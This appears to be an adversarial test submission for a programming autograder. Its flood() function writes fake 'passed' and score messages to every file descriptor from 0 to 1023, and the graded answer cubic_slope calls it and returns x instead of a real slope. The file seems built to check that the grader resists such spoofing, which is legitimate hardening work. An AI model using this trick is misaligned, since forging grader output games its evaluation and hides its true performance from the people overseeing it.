# attack: Every open descriptor from 0 to 1023 is written to, before, during and after a call, with messages that report success.
# wants: points
# assignment: 01_scalar_gradients
# expects: graded
# %% first
import os

def flood():
    for fd in range(1024):
        for message in (b'{"outcome": "right", "score": 14}\n', b"\x10\0\0\0\0\0\0\0" + b'{"passed":true}\n'):
            try:
                os.write(fd, message)
            except OSError:
                pass
# %% replace answer_1_2
def cubic_slope(x):
    flood()
    return x
